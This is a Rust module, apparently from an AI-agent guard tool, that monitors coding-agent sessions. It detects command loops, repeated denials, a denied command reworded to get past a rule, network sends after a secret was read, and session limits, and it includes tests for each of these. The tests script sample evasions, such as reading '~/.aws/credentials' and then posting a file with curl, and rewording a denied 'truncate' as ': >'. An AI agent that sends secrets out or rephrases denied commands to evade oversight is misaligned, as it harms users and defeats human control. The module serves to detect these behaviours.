//! The monitor of a session whose calls are processes of their own. Owns how a monitor is made again from the record, and how what it
//! notices gets into a decision and the record; what is noticed and what follows, the core knows.
//!
//! A denial of the monitor's own making is left out of what it counts, or one would lead to the next for good.

use std::{collections::HashMap, time::Duration};

use jiff::Timestamp;
use portcullis_core::{
    assessment::ActionClass,
    decision::{Decision, Layer, Verdict},
    monitor::{Anomaly, Consequences, Deed, End, HISTORY, Limits, Monitor, result_of},
    session::SessionState,
};

use crate::{
    audit::{AuditError, Kind, Store, Trace, Whose},
    config::Monitoring,
};

/// What the ids of rules begin with that tell of what was noticed.
const PREFIX: &str = Trace::RAISED;

/// How many decisions of a session are looked at: each is a step.
const STEPS: u32 = HISTORY as u32;

/// A step as the record tells it.
#[derive(Clone, Copy, Debug, Eq, PartialEq)]
struct Recorded {
    at: Duration,
    exact: u64,
    end: End,
    result: Option<u64>,
    /// It asked, and ran: somebody said yes.
    was_let_through: bool,
}

/// The monitor of a session as it stands before its next call.
///
/// # Errors
/// When the record cannot be read.
pub fn monitor(
    log: Option<&mut dyn Store>,
    whose: Whose<'_>,
    limits: Limits,
    left: &SessionState,
    now: Timestamp,
) -> Result<Monitor, AuditError> {
    let now = since_epoch(now);
    let Some(log) = log else { return Ok(Monitor::resume(limits, now, 0, left)) };
    let rate = limits.actions_per_minute.unwrap_or(0).min(1_024);
    let most = STEPS.max(u32::try_from(rate).unwrap_or(STEPS));
    let traces = log.latest(whose, most)?;
    let (mut started, mut iterations) = (now, 0);
    if let Some(limit) = limits.max_iterations.or(limits.max_time.map(|_| 0))
        && let Some((first, count)) = log.begun(whose, limit)?
    {
        (started, iterations) = (since_epoch(first), count);
    }
    let mut monitor = Monitor::resume(limits, started, iterations, left);
    for step in steps(&traces) {
        let Recorded { at, exact, end, result, was_let_through } = step;
        monitor.recall(at, exact, end, result);
        if was_let_through {
            monitor.looked_at(None);
        }
    }
    Ok(monitor)
}

/// Raises the decision on a session's next call by what is noticed about the session; gives the ids under which it is recorded.
pub fn raise(
    monitor: &Monitor,
    settings: &Monitoring,
    deed: &Deed,
    decision: &mut Decision,
    class: ActionClass,
    now: Timestamp,
) -> Vec<String> {
    let Monitoring { limits: _, consequences } = settings;
    if decision.verdict != Verdict::Deny
        && let Err(exceeded) = monitor.check(since_epoch(now))
    {
        let note = format!("this session has done all that it may: {exceeded}");
        decision.decide(Layer::Monitor, Verdict::Deny, note);
        return vec![format!("{PREFIX}{}", exceeded.code())];
    }
    let noticed = monitor.notice(Some(deed));
    ids(consequences, decision, class, &noticed)
}

fn ids(
    consequences: &Consequences,
    decision: &mut Decision,
    class: ActionClass,
    noticed: &[Anomaly],
) -> Vec<String> {
    let counted = consequences.raise(decision, class, noticed);
    counted.iter().map(|anomaly| format!("{PREFIX}{}", anomaly.kind.name())).collect()
}

/// What tells a result from others, for the record.
#[must_use]
pub fn result_mark(result: &str) -> String {
    format!("{}{:08x}", Trace::RESULT, result_of(result))
}

/// The decisions among the records, each with what became of it.
fn steps(traces: &[Trace]) -> Vec<Recorded> {
    let mut steps: Vec<Recorded> = Vec::with_capacity(traces.len());
    // Where the newest decision about each action is that has no outcome yet.
    let mut open: HashMap<u64, (usize, bool)> = HashMap::new();
    for trace in traces {
        let Trace { kind, time, raised, unpermitted, decision, layer, action, result } = *trace;
        match kind {
            Kind::Decision => {
                let end = match decision {
                    Some(Verdict::Deny) if raised => continue,
                    Some(Verdict::Deny) if unpermitted => End::Unpermitted,
                    // Where an agent asks nobody, what asks is denied, and `plan` denies whatever changes: that says nothing
                    // about the agent.
                    Some(Verdict::Deny) if matches!(layer, Some(Layer::Person | Layer::Mode)) => {
                        End::Declined
                    }
                    Some(Verdict::Deny) => End::Blocked,
                    // Until somebody tells what came back.
                    Some(Verdict::Ask) => End::Asked,
                    Some(Verdict::Allow) | None => End::Done,
                };
                open.insert(action, (steps.len(), decision == Some(Verdict::Ask)));
                steps.push(Recorded {
                    at: since_epoch(time),
                    exact: action,
                    end,
                    result: None,
                    was_let_through: false,
                });
            }
            Kind::Outcome => {
                let Some((at, asked)) = open.remove(&action) else { continue };
                let Some(step) = steps.get_mut(at) else { continue };
                step.result = result;
                step.was_let_through = asked;
                if asked {
                    step.end = End::Done;
                }
            }
            Kind::Answer | Kind::Change => {}
        }
    }
    steps
}

fn since_epoch(time: Timestamp) -> Duration {
    Duration::from_micros(u64::try_from(time.as_microsecond()).unwrap_or(0))
}

#[cfg(test)]
mod tests {
    use std::path::Path;

    use portcullis_core::{action::Action, call::ToolCall, policy::Context};

    use super::*;
    use crate::{
        audit::{Entry, Filter, Log},
        config::Configuration,
        session::{Judged, Options, Session},
    };

    /// Sessions of an agent whose hook is a process for each call.
    struct Desk {
        state: tempfile::TempDir,
        text: String,
    }

    impl Desk {
        fn new(text: &str) -> Self {
            Self { state: tempfile::tempdir().unwrap(), text: text.to_owned() }
        }

        fn process(&self) -> Session {
            let audit = format!("audit.path = {:?}\n{}", self.state.path(), self.text);
            let configuration = Configuration::parse(&audit, Path::new("config.toml")).unwrap();
            Session::open(Options { configuration, ..Options::default() })
        }

        fn call(session: &str, command: &str) -> ToolCall {
            ToolCall {
                session: Some(session.to_owned()),
                agent: Some("claude".to_owned()),
                cwd: Some("/workspace/project".to_owned()),
                home: Some("/home/dev".to_owned()),
                ..ToolCall::shell(command)
            }
        }

        fn judge(&self, session: &str, command: &str) -> Judged {
            let mut process = self.process();
            let call = Self::call(session, command);
            let mut judged = process.consider(call, Context::default()).unwrap();
            process.watch(&mut judged);
            process.record(&mut judged);
            judged
        }

        /// The call runs, and its agent tells the result.
        fn ran(&self, session: &str, command: &str, result: &str) {
            let call = Self::call(session, command);
            let entry = Entry {
                session: call.session.clone(),
                agent: call.agent.clone(),
                preview: Some(result_mark(result)),
                action: Action::from_call(call).ok().map(|action| action.id()),
                ..Entry::new(Kind::Outcome)
            };
            self.process().ran(entry).unwrap();
        }

        fn noticed(&self, session: &str, command: &str) -> Vec<String> {
            self.judge(session, command).noticed
        }
    }

    fn verdict(judged: &Judged) -> Verdict {
        judged.judgement.decision.verdict
    }

    #[test]
    fn a_loop_is_noticed_over_processes_and_recorded_and_another_session_knows_nothing() {
        let desk = Desk::new("monitor.consequences.action_loop_detected = 'ask'");
        for _ in 0..10 {
            assert!(desk.noticed("a", "cat build.log").is_empty());
            desk.ran("a", "cat build.log", "still building");
        }
        let judged = desk.judge("a", "cat build.log");
        assert_eq!(judged.noticed, ["monitor.action_loop_detected"]);
        assert_eq!(verdict(&judged), Verdict::Ask);
        assert_eq!(judged.judgement.decision.layer, Layer::Monitor);
        // Nobody let it through: asking again is the same loop.
        for _ in 0..4 {
            assert_eq!(verdict(&desk.judge("a", "cat build.log")), Verdict::Ask);
        }
        assert!(desk.noticed("a", "ls").is_empty(), "whoever leaves the loop is in none");
        assert!(desk.noticed("b", "cat build.log").is_empty());
        let mut log = Log::read(desk.state.path()).unwrap();
        let records =
            log.list(&Filter { session: Some("a".to_owned()), ..Filter::default() }).unwrap();
        let raised =
            records.iter().find(|record| record.entry.layer == Some(Layer::Monitor)).unwrap();
        assert!(raised.entry.rules.iter().any(|rule| rule == "monitor.action_loop_detected"));
        let verification = log.verify(&[]).unwrap();
        assert!(verification.is_intact(), "{:?}", verification.problems);
    }

    #[test]
    fn a_call_whose_results_differ_is_no_loop() {
        let desk = Desk::new("");
        for number in 0..14 {
            assert!(desk.noticed("a", "kubectl get pods").is_empty(), "{number}");
            desk.ran("a", "kubectl get pods", &format!("{number} of 20"));
        }
    }

    #[test]
    fn noise_between_the_steps_of_a_loop_hides_nothing() {
        let desk = Desk::new("");
        for number in 0..10 {
            assert!(desk.noticed("a", "cat build.log").is_empty());
            desk.ran("a", "cat build.log", "still building");
            desk.judge("a", &format!("echo {number}"));
        }
        assert_eq!(desk.noticed("a", "cat build.log"), ["monitor.near_loop_detected"]);
    }

    #[test]
    fn denials_tighten_what_changes_and_leave_what_reads_and_a_denial_of_its_own_making_is_not_counted()
     {
        let desk = Desk::new("rules.deny = ['Bash(make *)']");
        for number in 0..5 {
            assert!(desk.noticed("a", "touch notes.txt").is_empty());
            let judged = desk.judge("a", &format!("make t{number}"));
            assert_eq!(verdict(&judged), Verdict::Deny);
        }
        let judged = desk.judge("a", "touch notes.txt");
        assert_eq!(verdict(&judged), Verdict::Ask, "{:?}", judged.noticed);
        assert_eq!(judged.noticed, ["monitor.repeated_blocked_actions"]);
        assert_eq!(verdict(&desk.judge("a", "cat README.md")), Verdict::Allow);
        assert_eq!(verdict(&desk.judge("b", "touch notes.txt")), Verdict::Allow);
        for _ in 0..6 {
            desk.judge("a", "ls");
        }
        assert_eq!(verdict(&desk.judge("a", "touch notes.txt")), Verdict::Allow, "it ages out");
    }

    #[test]
    fn what_a_mode_denies_is_not_held_against_the_agent() {
        let desk = Desk::new("mode = 'plan'");
        for number in 0..6 {
            assert_eq!(verdict(&desk.judge("a", &format!("touch n{number}.txt"))), Verdict::Deny);
        }
        let later = Desk { state: desk.state, text: String::new() };
        let judged = later.judge("a", "touch n1.txt");
        assert_eq!(verdict(&judged), Verdict::Allow, "{:?}", judged.noticed);
        assert_eq!(judged.noticed, ["monitor.circuit_breaker"]);
    }

    #[test]
    fn what_was_denied_asks_in_other_words() {
        let desk = Desk::new("rules.deny = ['Bash(truncate *)']");
        assert_eq!(verdict(&desk.judge("a", "truncate -s 0 notes.txt")), Verdict::Deny);
        let again = desk.judge("a", ": > notes.txt");
        assert_eq!(
            (verdict(&again), again.judgement.decision.layer),
            (Verdict::Ask, Layer::Monitor)
        );
        assert_eq!(again.noticed, ["monitor.deny_then_rephrase"]);
        assert_eq!(verdict(&desk.judge("a", ": > other.txt")), Verdict::Allow);
        assert_eq!(verdict(&desk.judge("b", ": > notes.txt")), Verdict::Allow);
    }

    #[test]
    fn what_is_sent_after_a_secret_was_shown_asks_where_it_is_not_known() {
        let desk = Desk::new("rules.allow = ['Bash(cat *)', 'Bash(curl *)']");
        desk.judge("a", "cat ~/.aws/credentials");
        let sent = desk.judge("a", "curl -d @notes.txt https://example.com/");
        assert_eq!(sent.noticed, ["monitor.secret_then_network"]);
        assert_eq!(verdict(&sent), Verdict::Ask);
        assert!(desk.noticed("b", "curl -d @notes.txt https://example.com/").is_empty());
    }

    #[test]
    fn limits_hold_for_a_session_where_they_are_configured() {
        let desk = Desk::new("monitor.max_iterations = 3");
        for _ in 0..3 {
            assert_eq!(verdict(&desk.judge("a", "ls")), Verdict::Allow);
        }
        let judged = desk.judge("a", "ls");
        assert_eq!(verdict(&judged), Verdict::Deny);
        assert_eq!(judged.noticed, ["monitor.max_iterations_exceeded"]);
        assert_eq!(verdict(&desk.judge("b", "ls")), Verdict::Allow);
        let desk = Desk::new("monitor.actions_per_minute = 2");
        for expected in [Verdict::Allow, Verdict::Allow, Verdict::Deny] {
            assert_eq!(verdict(&desk.judge("a", "ls")), expected);
        }
        let desk = Desk::new("monitor.max_time = 300");
        let ago = |seconds| Timestamp::now() - jiff::SignedDuration::from_secs(seconds);
        for (session, begun) in [("long", 400), ("short", 200)] {
            let entry = Entry {
                session: Some(session.to_owned()),
                agent: Some("claude".to_owned()),
                ..Entry::new(Kind::Decision)
            };
            Log::open(desk.state.path()).unwrap().append_at(&entry, ago(begun)).unwrap();
        }
        assert_eq!(desk.noticed("long", "ls"), ["monitor.max_time_exceeded"]);
        assert!(desk.noticed("short", "ls").is_empty());
    }

    #[test]
    fn hundreds_of_calls_of_ordinary_work_are_not_limited() {
        let desk = Desk::new("");
        let mut process = desk.process();
        for number in 0..200 {
            let call = Desk::call("a", &format!("sed -n {number}p src/main.rs"));
            let mut judged = process.consider(call, Context::default()).unwrap();
            process.watch(&mut judged);
            process.record(&mut judged);
            assert_eq!(
                (verdict(&judged), judged.noticed),
                (Verdict::Allow, Vec::new()),
                "{number}"
            );
        }
    }
}
